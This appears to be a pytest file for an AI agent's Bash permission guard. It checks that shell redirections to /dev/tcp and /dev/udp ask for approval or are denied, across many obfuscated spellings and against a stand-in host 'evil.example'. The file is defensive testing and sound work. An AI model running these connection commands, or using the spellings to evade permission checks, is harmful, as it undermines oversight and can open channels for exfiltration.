"""A redirection to `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` opens a connection, not a file:
it asks however it is spelt and whatever rule allowed the command (`Bash(echo *)`), a
`WebFetch(domain:HOST)` deny rule denies it, and an input redirection from a place only known at
run time (which may be such a connection) asks too."""

from __future__ import annotations

import pytest

from tests.permission.test_bash_writers_and_spellings import check, decide, world

__all__ = ["world"]  # the fixture, imported for pytest

NETWORK = "network connection"
SPELLINGS = [
    ("input", "echo hi < /dev/tcp/127.0.0.2/9"),
    ("input-glued", "echo hi </dev/tcp/127.0.0.2/9"),
    ("output", "echo hi > /dev/tcp/127.0.0.2/9"),
    ("append", "echo hi >> /dev/tcp/127.0.0.2/9"),
    ("both", "echo hi &> /dev/tcp/127.0.0.2/9"),
    ("dup-to-file", "echo hi >& /dev/tcp/127.0.0.2/9"),
    ("udp", "echo hi > /dev/udp/127.0.0.2/9"),
    ("double-quoted", 'echo hi > "/dev/tcp/127.0.0.2/9"'),
    ("single-quoted", "echo hi > '/dev/tcp/127.0.0.2/9'"),
    ("escaped", "echo hi > /dev/t\\cp/127.0.0.2/9"),
    ("ansi-c", "echo hi > $'/dev/\\x74cp/127.0.0.2/9'"),
    ("fd-numbered", "echo hi 3< /dev/tcp/127.0.0.2/9"),
    ("in-a-subshell", "(echo hi) > /dev/tcp/127.0.0.2/9"),
    ("in-a-group", "{ echo hi; } > /dev/tcp/127.0.0.2/9"),
    ("in-bash-c", "bash -c 'echo hi > /dev/tcp/127.0.0.2/9'"),
    ("after-cd", "cd /dev && echo hi > tcp/127.0.0.2/9"),
    ("exec-read-write", "exec 3<>/dev/tcp/127.0.0.2/9"),
]


@pytest.mark.parametrize("command", [c for _, c in SPELLINGS], ids=[i for i, _ in SPELLINGS])
@pytest.mark.parametrize("mode", ["default", "acceptEdits"])
def test_a_network_redirection_asks_under_an_allow_rule(world, command, mode):
    decision = decide(world, command, mode=mode, allow=["Bash(echo *)", "Bash(cd *)", "Bash(bash *)"])
    assert (decision.behavior, decision.decided_by) == ("ask", "guard"), decision


@pytest.mark.parametrize("command", ["echo hi < $T", 'echo hi < "$T"', "echo hi > $T", "echo hi < /dev/tcp/$H/9"])
def test_a_redirection_only_known_at_run_time_asks(world, command):
    check(decide(world, command, allow=["Bash(echo *)"]), ("ask", "guard", "only known at run time"))


def test_a_network_redirection_is_not_auto_allowed_in_the_sandbox(world):
    check(decide(world, "echo hi < /dev/tcp/127.0.0.2/9", sandboxed=True), ("ask", "guard", NETWORK))


def test_a_web_domain_deny_rule_denies_the_connection(world):
    decision = decide(
        world,
        "echo hi > /dev/tcp/evil.example/80",
        mode="bypassPermissions",
        allow=["Bash"],
        deny=["WebFetch(domain:evil.example)"],
    )
    check(decision, ("deny", "rule", "evil.example"))


def test_bypass_runs_a_network_redirection_as_it_runs_curl(world):
    check(decide(world, "echo hi > /dev/tcp/127.0.0.2/9", mode="bypassPermissions"), ("allow", "mode"))


def test_descriptor_copies_and_ordinary_input_are_no_connection(world):
    check(decide(world, "echo hi 2>&1 < notes >&2", allow=["Bash(echo *)"]), ("allow", "rule"))
